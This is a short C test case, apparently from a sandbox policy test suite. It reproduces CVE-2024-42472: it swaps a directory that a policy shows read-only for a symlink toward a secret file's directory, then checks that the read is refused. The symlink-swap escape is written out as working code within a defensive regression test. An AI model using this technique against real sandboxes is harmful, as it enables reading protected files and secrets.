// attack: replace a directory that another policy shows read-only by a link to the host's root
// group: B
// source: CVE-2024-42472
// layer: the backend follows no link that others than the platform's user could have made
// outside: as any user
// needs: now
// stages: plant read
// arguments: {writable} {secret}
// denied: refused
// policy-read: filesystem.read-only={writable}/shown filesystem.read-write={writable}/covered
#include "../attack.h"

int main(int argc, char **argv) {
  char path[4096], target[4096];
  const char *stage = argument(argc, argv, 1, "stage");
  const char *writable = argument(argc, argv, 2, "writable");
  const char *secret = argument(argc, argv, 3, "secret");
  snprintf(path, sizeof path, "%s/shown", writable);
  snprintf(target, sizeof target, "%s", secret);
  *strrchr(target, '/') = '\0';
  if (strcmp(stage, "plant") == 0) {
    unlink(path);
    judge("symlink", symlink(target, path));
  }
  snprintf(path, sizeof path, "%s/shown%s", writable, strrchr(secret, '/'));
  judge_read(AT_FDCWD, path);
}
